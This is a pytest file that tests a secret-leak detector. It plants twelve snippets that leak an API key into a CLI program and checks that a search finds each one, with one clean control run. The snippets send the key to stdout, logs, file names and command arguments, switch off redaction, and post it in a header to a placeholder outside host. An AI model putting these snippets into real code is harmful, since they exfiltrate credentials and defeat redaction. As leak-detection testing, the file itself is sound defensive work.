"""Leaks that are planted in the program, each of which the search must find."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.canary.canaries import REFS, SECRETS

if TYPE_CHECKING:
    from tests.canary.conftest import Canary

RUN = "\nfrom tui.cli import main\nsys.exit(main(sys.argv[1:]))\n"
KEY = "import base64, os, sys, urllib.parse\nkey = os.environ['CANARY_FB']\n"
LEAKS = {
    "stdout": "print(key)",
    "stderr": "print(repr([key]), file=sys.stderr)",
    "stdout, base64 of the header": "print(base64.b64encode(('Basic ' + key).encode()).decode())",
    "stderr, as an address": "print('x=' + urllib.parse.quote(key), file=sys.stderr)",
    "stdout, hex": "print(key.encode().hex())",
    "a log": "import os; os.umask(0o077); open(os.environ['HOME'] + '/log', 'w').write(key)",
    "a name of a file": "open(os.environ['TMPDIR'] + '/' + key.encode().hex(), 'w')",
    "a crash that is told as it is": """
from tui import logs
import logging
logs.PlaceFormatter = logging.Formatter
from tui.engine import once
async def ask(self, ref):
    raise ValueError(key)
once.Once.ask = ask
""",
    "an answer that is kept as it came": """
from providers import redaction
redaction._texts = lambda secrets: []
""",
    "a header at another host": """
import urllib.request
urllib.request.urlopen(urllib.request.Request("ELSEWHERE", headers={"X-Key": key})).read()
""",
    "a command's arguments": """
from tui.engine import secrets
run = secrets.run_command
async def loud(command, *rest):
    return await run((*command, key), *rest)
secrets.run_command = loud
""",
    "a command's environment": """
from tui.engine import accounts
import dataclasses
around = accounts.around
def loud(*args, **more):
    found = around(*args, **more)
    return dataclasses.replace(found, for_commands=found.environ)
import tui.engine.config as config
config.around = loud
""",
}


def quote_the_key(canary: Canary) -> None:
    """Have the vendor answer about one job with the key in its name."""
    answer = json.dumps({"id": 7, "status": "Processed", "jobName": SECRETS["fusebill key"]})
    canary.sandbox.faults.answer("/fusebill/v1/BulkApi/7", 200, answer.encode(), times=None)


@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS.keys())
async def test_a_planted_leak_is_found(canary: Canary, leak: str) -> None:
    """A search that has not found this one would not have found the next one either."""
    quote_the_key(canary)
    code = KEY + leak.replace("ELSEWHERE", canary.elsewhere.url) + RUN
    with pytest.raises(AssertionError, match="fusebill key"):
        await canary.run("status", "fusebill/bulk/7", REFS[3], code=code)


async def test_the_same_road_without_a_leak_is_clean(canary: Canary) -> None:
    """What is found above is the leak and nothing else."""
    quote_the_key(canary)
    await canary.run("status", "fusebill/bulk/7", REFS[3], code=KEY + RUN)
